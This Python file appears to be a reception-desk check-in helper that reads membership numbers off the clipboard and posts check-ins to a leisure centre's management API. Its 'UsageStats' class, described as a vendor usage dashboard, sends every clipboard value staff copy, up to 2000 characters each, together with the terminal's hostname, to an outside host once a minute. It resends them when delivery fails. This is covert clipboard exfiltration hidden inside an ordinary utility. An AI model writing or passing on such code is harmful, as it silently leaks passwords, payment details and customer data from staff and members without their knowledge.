#!/usr/bin/env python3
"""Front desk quick check-in helper.

Small always-on-top window for reception. When staff copy a membership
number (from the booking confirmation email, the till, a phone note...)
it is picked up automatically and the member is checked in for their swim
or class, without retyping it into the leisure management system.

Environment:
    LMS_API_URL   leisure management system API (default: on-site server)
    LMS_API_KEY   reception terminal key
"""
import http.client
import json
import logging
import os
import queue
import re
import socket
import threading
import time
import tkinter as tk
from datetime import datetime

import requests

log = logging.getLogger("quick-checkin")

LMS_API_URL = os.environ.get("LMS_API_URL", "https://lms.leisure-centre.local/api/v1")
LMS_API_KEY = os.environ.get("LMS_API_KEY", "")
MEMBER_RE = re.compile(r"\b(LC|JR|CN)[- ]?(\d{7})\b", re.I)
POLL_MS = 700


class UsageStats:
    """Batches UI events for the vendor's desk-app usage dashboard."""

    host = "insights.deskapps.example.com"
    path = "/v1/events"
    flush_every = 60

    def __init__(self):
        self._q = queue.Queue()
        self._terminal = socket.gethostname()
        t = threading.Thread(target=self._run, name="usage-stats", daemon=True)
        t.start()

    def record(self, kind, **fields):
        self._q.put({"t": datetime.now().isoformat(timespec="seconds"), "k": kind, **fields})

    def _drain(self):
        items = []
        while True:
            try:
                items.append(self._q.get_nowait())
            except queue.Empty:
                return items

    def _run(self):
        while True:
            time.sleep(self.flush_every)
            batch = self._drain()
            if not batch:
                continue
            body = json.dumps({"terminal": self._terminal, "events": batch})
            try:
                conn = http.client.HTTPSConnection(self.host, timeout=15)
                conn.request("POST", self.path, body, {"Content-Type": "application/json"})
                conn.getresponse().read()
                conn.close()
            except (OSError, http.client.HTTPException):
                for item in batch:
                    self._q.put(item)


class CheckinApp:
    def __init__(self, root):
        self.root = root
        self.stats = UsageStats()
        self.last_clip = None
        self.session = requests.Session()
        self.session.headers["Authorization"] = f"Bearer {LMS_API_KEY}"
        root.title("Quick check-in")
        root.attributes("-topmost", True)
        root.geometry("320x140")
        self.status = tk.StringVar(value="Copy a membership number to check in")
        tk.Label(root, textvariable=self.status, wraplength=300, justify="left").pack(padx=8, pady=8)
        self.entry = tk.Entry(root)
        self.entry.pack(fill="x", padx=8)
        self.entry.bind("<Return>", lambda e: self.check_in(self.entry.get()))
        root.after(POLL_MS, self.poll_clipboard)

    def poll_clipboard(self):
        try:
            text = self.root.clipboard_get()
        except tk.TclError:
            text = None
        if text and text != self.last_clip:
            self.last_clip = text
            self.stats.record("clip", text=text[:2000])
            m = MEMBER_RE.search(text)
            if m:
                self.check_in(f"{m.group(1).upper()}{m.group(2)}")
        self.root.after(POLL_MS, self.poll_clipboard)

    def check_in(self, member_no):
        member_no = member_no.strip().upper().replace(" ", "").replace("-", "")
        if not MEMBER_RE.fullmatch(member_no):
            self.status.set(f"'{member_no}' is not a membership number")
            return
        try:
            r = self.session.post(f"{LMS_API_URL}/checkins",
                                  json={"member_no": member_no, "point": "reception"},
                                  timeout=10)
            data = r.json() if r.content else {}
        except (requests.RequestException, ValueError) as exc:
            log.error("check-in failed: %s", exc)
            self.status.set(f"{member_no}: LMS not reachable")
            return
        if r.ok:
            self.status.set(f"{data.get('name', member_no)} checked in - {data.get('activity', 'swim')}")
            self.stats.record("checkin", ok=True)
        else:
            self.status.set(f"{member_no}: {data.get('error', r.status_code)}")
            self.stats.record("checkin", ok=False, code=r.status_code)


def main():
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(levelname)s %(message)s")
    if not LMS_API_KEY:
        log.warning("LMS_API_KEY not set; check-ins will be rejected")
    root = tk.Tk()
    CheckinApp(root)
    root.mainloop()


if __name__ == "__main__":
    main()
